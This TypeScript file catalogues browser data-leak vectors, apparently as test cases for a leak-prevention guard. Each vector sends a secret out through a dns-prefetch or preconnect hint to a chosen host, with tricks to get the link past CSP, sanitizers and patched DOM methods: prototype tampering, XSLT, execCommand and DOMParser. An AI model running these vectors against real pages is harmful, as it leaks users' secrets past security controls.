import type { Vector } from './leak.vector.ts'

const xhtml = 'http://www.w3.org/1999/xhtml'

function hint(link: Element, href: string, rel = 'preconnect'): void {
  link.setAttribute('rel', rel)
  link.setAttribute('href', href)
  document.head.append(link)
}

/**
 * Script that has a host looked up or greeted ahead of need, with the secret in the name of the host. A Content Security
 * Policy does not govern this, so most of these are ways to make a `<link>` all the same.
 */
export const hints: Readonly<Record<string, Vector>> = {
  'hint, dns-prefetch': ({ host }) => hint(document.createElement('link'), `//${host}`, 'dns-prefetch'),
  'hint, preconnect': ({ secureUrl }) => hint(document.createElement('link'), secureUrl),
  'hint, preconnect with credentials': ({ secureUrl }) => {
    const link = document.createElement('link')
    link.crossOrigin = 'use-credentials'
    hint(link, secureUrl)
  },
  'hint, a name in capitals': ({ secureUrl }) => hint(document.createElement('LINK'), secureUrl),
  'hint, by namespace': ({ secureUrl }) => hint(document.createElementNS(xhtml, 'link'), secureUrl),
  'hint, by namespace and prefix': ({ secureUrl }) =>
    hint(document.createElementNS(xhtml, 'h:link'), secureUrl),
  'hint, by namespace, with a second colon': ({ secureUrl }) =>
    hint(document.createElementNS(xhtml, 'h:link:x'), secureUrl),
  'hint, the native method of another document': ({ secureUrl }) =>
    hint(document.implementation.createHTMLDocument().createElement('link'), secureUrl),
  'hint, the root of a new document': ({ secureUrl }) => {
    const made = document.implementation.createDocument(xhtml, 'link')
    hint(document.importNode(made.documentElement, true), secureUrl)
  },
  'hint, a name that changes when read again': ({ secureUrl }) => {
    let reads = 0
    const name = { toString: () => (reads++ === 0 ? 'div' : 'link') }
    const made = Reflect.apply(document.createElement, document, [name])
    hint(
      made instanceof HTMLLinkElement ? made : Reflect.apply(document.createElement, document, [name]),
      secureUrl,
    )
  },
  'hint, built-ins changed underneath': ({ secureUrl }) => {
    const kept = [String.prototype.toLowerCase, String.prototype.slice, Reflect.apply] as const
    String.prototype.toLowerCase = () => 'div'
    String.prototype.slice = () => 'div'
    try {
      hint(document.createElement('link'), secureUrl)
    } finally {
      ;[String.prototype.toLowerCase, String.prototype.slice, Reflect.apply] = kept
    }
  },
  'hint, an inherited entry': ({ secureUrl }) => {
    Object.defineProperty(Object.prototype, 'link', { value: false, configurable: true })
    try {
      hint(document.createElement('link'), secureUrl)
    } finally {
      Reflect.deleteProperty(Object.prototype, 'link')
    }
  },
  'hint, the method taken away': ({ secureUrl }) => {
    const kept = Object.getOwnPropertyDescriptor(Document.prototype, 'createElement')!
    Reflect.deleteProperty(Document.prototype, 'createElement')
    try {
      hint(document.createElement('link'), secureUrl)
    } finally {
      Reflect.defineProperty(Document.prototype, 'createElement', kept)
    }
  },
  'hint, a class of one’s own': ({ secureUrl, secret }) => {
    class Own extends HTMLLinkElement {}
    customElements.define(`x-${secret}`, Own, { extends: 'link' })
    hint(new Own(), secureUrl)
  },
  'hint, by the sanitizer': ({ secureUrl }) => {
    const holder = document.body.appendChild(document.createElement('div'))
    const sanitizer = { elements: ['link'], attributes: ['rel', 'href'] }
    const markup = `<link rel="preconnect" href="${secureUrl}">`
    Reflect.apply(Reflect.get(Element.prototype, 'setHTML'), holder, [markup, { sanitizer }])
  },
  'hint, by a style sheet for XML': ({ secureUrl }) => {
    const namespace = 'http://www.w3.org/1999/XSL/Transform'
    const sheet = document.implementation.createDocument(namespace, 'xsl:stylesheet')
    sheet.documentElement.setAttribute('version', '1.0')
    const template = sheet.documentElement.appendChild(sheet.createElementNS(namespace, 'xsl:template'))
    ;(template as Element).setAttribute('match', '/')
    const element = template.appendChild(sheet.createElementNS(namespace, 'xsl:element')) as Element
    element.setAttribute('name', 'link')
    element.setAttribute('namespace', xhtml)
    const Processor = Reflect.get(globalThis, 'XSLTProcessor')
    const processor = new Processor()
    processor.importStylesheet(sheet)
    const made: DocumentFragment = processor.transformToFragment(sheet, document)
    hint(made.firstElementChild as Element, secureUrl)
  },
  'hint, pasted by a command': ({ secureUrl }) => {
    const box = document.body.appendChild(document.createElement('div'))
    box.contentEditable = 'true'
    box.focus()
    document.execCommand('insertHTML', false, `<link rel="preconnect" href="${secureUrl}">`)
  },
  'hint, parsed as XML': ({ secureUrl }) => {
    const text = `<link xmlns="${xhtml}" rel="preconnect" href="${secureUrl}"/>`
    document.head.append(new DOMParser().parseFromString(text, 'application/xml').documentElement)
  },
  'hint, a link in view': ({ host }) => {
    const link = document.createElement('a')
    link.href = `https://${host}/`
    link.textContent = 'x'
    document.body.prepend(link)
  },
}
